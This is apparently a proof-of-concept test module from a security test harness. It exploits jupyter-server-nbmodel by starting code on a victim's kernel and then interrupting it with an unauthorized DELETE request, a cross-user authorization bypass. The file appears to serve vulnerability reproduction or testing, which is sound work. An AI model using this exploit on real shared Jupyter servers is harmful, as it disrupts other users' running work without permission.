"""jupyter-server-nbmodel's interrupt of anybody's kernel: a DELETE that asks neither Authorizer nor gate."""

from __future__ import annotations

import uuid
from pathlib import Path

from attack_house import Attacker, await_mark, touch
from support.servers import wait_for

NEEDS = ("victim",)
CAUSES = {"closed"}


def strike(person: Attacker, mark: Path, victim: str) -> bool:
    code = f"{touch(mark)}\nimport time; time.sleep(600)"
    status, asked = person.request("POST", f"/api/kernels/{victim}/execute", {"code": code})
    running = f"/api/kernels/{victim}/requests/{uuid.uuid4()}"
    if status < 300:
        await_mark(mark, "the cell to be interrupted")
        running = asked["request_url"]
    status, _ = person.request("DELETE", running)
    if status < 300:
        wait_for(lambda: person.request("GET", running)[0] not in (202, 300), "the interrupt")
    return status < 300
